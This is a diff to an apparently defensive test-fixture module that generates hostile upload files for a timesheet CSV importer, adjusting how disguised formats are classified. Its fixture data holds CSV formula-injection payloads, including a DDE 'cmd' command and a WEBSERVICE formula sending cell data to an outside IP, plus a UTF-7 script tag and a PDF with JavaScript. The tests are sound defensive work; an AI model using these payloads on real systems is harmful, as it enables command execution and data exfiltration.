@@ -102,6 +102,11 @@ _DISGUISED: tuple[tuple[str, str, bytes], ...] = (
     ("bytes of all kinds", "heures.csv", bytes(range(1, 32)) * 20),
 )
 
+# Nothing in their first bytes gives these away: the process that reads sheets finds out.
+_FOUND_OUT_LATER = {
+    "an old Word document", "a database", "a pickle", "a PDF that begins late", "bytes of all kinds",
+}  # fmt: skip
+
 # True by its first bytes, and something more besides: kept as it is, never opened, never shown as anything else.
 _CARRIERS: tuple[tuple[str, str, str, bytes], ...] = (
     ("a PDF with JavaScript", "preuve.pdf", "pdf", _pdf(b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>")),
@@ -132,7 +137,7 @@ _CARRIERS: tuple[tuple[str, str, str, bytes], ...] = (
 
 _TEXTS: tuple[tuple[str, bytes], ...] = (
     ("formulas of all kinds", b"Nom;Heures\n=cmd|' /C calc'!A0;1\n+1+1;2\n-2+3;3\n@SUM(1);4\n\t=1;5\n"),
-    ("a formula that calls home", b'Nom;Heures\n"=WEBSERVICE(""https://9.9.9.9/""&A1)";1\n'),
+    ("a formula of text that calls home", b'Nom;Heures\n"=WEBSERVICE(""https://9.9.9.9/""&A1)";1\n'),
     ("UTF-7", b"Nom;Heures\n+ADw-script+AD4-;1\n"),
     ("UTF-16 without its mark", "Nom;Heures\nA;1\n".encode("utf-16-le")),
     ("UTF-32", "Nom;Heures\nA;1\n".encode("utf-32")),
@@ -166,7 +171,10 @@ def _large() -> Iterator[HostileFile]:
 
 def hostile_files() -> list[HostileFile]:
     """All of them, the small ones first."""
-    found = [HostileFile(told, name, "nothing", _always(content)) for told, name, content in _DISGUISED]
+    found = [
+        HostileFile(told, name, "text" if told in _FOUND_OUT_LATER else "nothing", _always(content))
+        for told, name, content in _DISGUISED
+    ]
     found += [HostileFile(told, name, is_a, _always(content)) for told, name, is_a, content in _CARRIERS]
     found += [HostileFile(told, "heures.csv", "text", _always(content)) for told, content in _TEXTS]
     found += [HostileFile(told, name, "sheet", make) for told, name, make in SHEETS]
